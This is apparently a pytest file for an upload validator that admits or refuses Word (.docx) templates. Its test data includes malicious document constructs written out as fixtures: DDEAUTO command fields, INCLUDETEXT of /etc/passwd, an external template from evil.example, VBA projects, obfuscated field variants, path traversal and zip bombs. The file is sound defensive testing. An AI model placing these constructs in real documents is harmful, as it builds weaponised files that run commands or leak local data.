"""What is let in as a template: by its real type, its size, and what it would load or run."""

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from daibiao.documents import actions, catalogue, packages
from daibiao.lib.refusals import Refusal

from .factories import declared, repacked


def upload(content: bytes, name: str = "模板.docx") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content)


def into(name: str, old: str, new: str):
    """Changes the text of one part."""

    def change(parts: dict[str, bytes]) -> None:
        assert old in parts[name].decode()
        parts[name] = parts[name].decode().replace(old, new, 1).encode()

    return change


WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
DDE = '<w:fldSimple w:instr="DDEAUTO cmd"/>'
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RUN = "<w:r>{}</w:r>"
MARK = RUN.format('<w:fldChar w:fldCharType="{}"/>')
CODE = RUN.format("<w:instrText>{}</w:instrText>")


def tie(kind: str, target: str):
    """A tie to something outside the package."""
    said = f'<Relationship Id="rX" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="External"/>'
    return into("word/_rels/document.xml.rels", "</Relationships>", f"{said}</Relationships>")


def elsewhere(name: str, body: str):
    """A footer in a part of this name: Word goes by the declared type, not by how the name ends."""

    def change(parts: dict[str, bytes]) -> None:
        part = f'<w:ftr xmlns:w="{WORD}"><w:p>{body}</w:p></w:ftr>'
        parts[f"word/{name}"] = part.encode()
        kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.footer+xml"
        said = f'<Override PartName="/word/{name}" ContentType="{kind}"/></Types>'
        into("[Content_Types].xml", "</Types>", said)(parts)

    return change


def prefixed(body: str):
    """The same words of Word under another prefix."""
    return into("word/document.xml", "<w:body>", f'<w:body><x:p xmlns:x="{WORD}">{body}</x:p>')


def field(code: str):
    """An instruction of Word, cut in two as Word does it."""
    run = MARK.format("begin") + CODE.format(code[:3]) + CODE.format(code[3:]) + MARK.format("end")
    return into("word/document.xml", "</w:p>", f"{run}</w:p>")


@pytest.mark.parametrize("paper", catalogue.papers(), ids=lambda paper: paper.key)
def test_what_the_house_gives_out_it_takes_back(paper):
    content = actions.default(paper)
    assert packages.admitted(upload(content)) == content


@pytest.mark.parametrize(
    ("change", "why"),
    [
        (tie("image", "http://10.0.0.1/x.png"), "http://10.0.0.1/x.png"),
        (tie("image", "file:///etc/passwd"), "file:///etc/passwd"),
        (tie("attachedTemplate", "https://evil.example/t.dotm"), "evil.example"),
        (tie("hyperlink", "file:///etc/passwd"), "file:///etc/passwd"),
        (tie("oleObject", "http://x/"), "http://x/"),
        (field("INCLUDETEXT /etc/passwd"), "INCLUDETEXT"),
        (field("DDEAUTO cmd"), "DDEAUTO"),
        (field("LINK x"), "LINK"),
        (into("word/document.xml", "<w:body>", '<w:body><w:altChunk r:id="rX"/>'), "嵌入"),
        (into("word/document.xml", "<w:body>", "<w:body><w:p><w:r><w:object/></w:r></w:p>"), "嵌入"),
        (
            into(
                "word/document.xml",
                "<w:p>",
                '<w:p><w:fldSimple w:instr="INCLUDEPICTURE &quot;http://x&quot;"/>',
            ),
            "INCLUDEPICTURE",
        ),
        (into("word/styles.xml", "<w:styles", '<!DOCTYPE a [<!ENTITY x "y">]><w:styles'), "Word 不会写"),
        (into("[Content_Types].xml", "document.main+xml", "template.main+xml"), "不是 Word"),
        (
            into(
                "[Content_Types].xml",
                "</Types>",
                '<Override PartName="/word/v.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
            ),
            "vbaProject",
        ),
        (
            into(
                "[Content_Types].xml",
                "</Types>",
                '<Default Extension="emf" ContentType="image/x-emf"/></Types>',
            ),
            "x-emf",
        ),
        (elsewhere("footer9.bin", DDE), "footer9.bin"),
        (elsewhere("footer9.png", DDE), "footer9.png"),
        (elsewhere("footer9.XML", DDE), "DDEAUTO"),
        (
            into(
                "word/_rels/document.xml.rels",
                "</Relationships>",
                f'<Relationship Id="rX" Type="{RELATIONS}/image" Target="file:///etc/passwd" TargetMode="Ext&#101;rnal"/>'
                "</Relationships>",
            ),
            "file:///etc/passwd",
        ),
        (prefixed('<x:fldSimple x:instr="DDEAUTO cmd"/>'), "DDEAUTO"),
        (prefixed("<x:r><x:instrText>DDEAUTO cmd</x:instrText></x:r>"), "域"),
        (prefixed("<x:altChunk/>"), "嵌入"),
        (
            into("word/document.xml", "<w:p>", '<w:p><w:fldSimple w:dirty=">" w:instr="DDEAUTO cmd"/>'),
            "DDEAUTO",
        ),
        (
            into(
                "word/document.xml",
                "</w:p>",
                f"{MARK.format('begin')}{CODE.format('<![CDATA[DDEAUTO cmd]]>')}{MARK.format('end')}</w:p>",
            ),
            "DDEAUTO",
        ),
        (into("word/document.xml", "</w:document>", ""), "损坏"),
        (lambda parts: parts.update({"word/vbaProject.bin": b"x"}), "vbaProject"),
        (lambda parts: parts.update({"../out.xml": b"<a/>"}), "out.xml"),
        (lambda parts: parts.pop("[Content_Types].xml"), "不是 Word"),
        (lambda parts: parts.update({f"word/{n}.xml": b"<a/>" for n in range(250)}), "展开后太大"),
        (lambda parts: parts.update({"word/media/a.png": b"\0" * (13 * 1024 * 1024)}), "展开后太大"),
        (into("word/document.xml", "<w:body>", f"<w:body><!--{'x' * 1_100_000}-->"), "文字太多"),
        (
            lambda parts: parts.update(
                {"word/document.xml": parts["word/document.xml"].decode().encode("utf-16")}
            ),
            "Word 不会写",
        ),
    ],
)
def test_what_loads_runs_or_unfolds_is_refused_by_name(change, why):
    with pytest.raises(Refusal, match=why):
        packages.admitted(upload(repacked(change)))


@pytest.mark.parametrize("kind", ["page", "PAGE \\* MERGEFORMAT", " NUMPAGES ", "DATE"])
def test_fields_that_only_count_are_let_in(kind):
    assert packages.admitted(upload(repacked(field(kind))))


def test_a_link_that_is_only_read_is_let_in():
    assert packages.admitted(upload(repacked(tie("hyperlink", "https://www.example.org/"))))


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (b"", "空的"),
        (b"hello", "不是 Word"),
        (b"%PDF-1.7", "不是 Word"),
        (b"\xd0\xcf\x11\xe0" + b"x" * 99, "旧格式"),
        (b"PK\x03\x04broken", "损坏"),
        (b"PK\x03\x04" + b"x" * (3 * 1024 * 1024), "最大 2 MB"),
    ],
)
def test_what_is_no_word_file_is_told_what_it_is(content, why):
    with pytest.raises(Refusal, match=why):
        packages.admitted(upload(content))


def test_a_directory_that_lies_about_sizes_is_found_out():
    content = repacked(lambda parts: parts.update({"word/media/a.png": b"\0" * 1_000_000}))
    size = (1_000_000).to_bytes(4, "little")
    with pytest.raises(Refusal):
        packages.admitted(upload(content.replace(size, (10).to_bytes(4, "little"))))


def test_names_that_come_twice_are_refused():
    content = io.BytesIO(actions.default(declared()))
    with zipfile.ZipFile(content, "a") as package, pytest.warns(UserWarning, match="Duplicate"):
        package.writestr("word/document.xml", "<x/>")
    with pytest.raises(Refusal, match="不是 Word"):
        packages.admitted(upload(content.getvalue()))
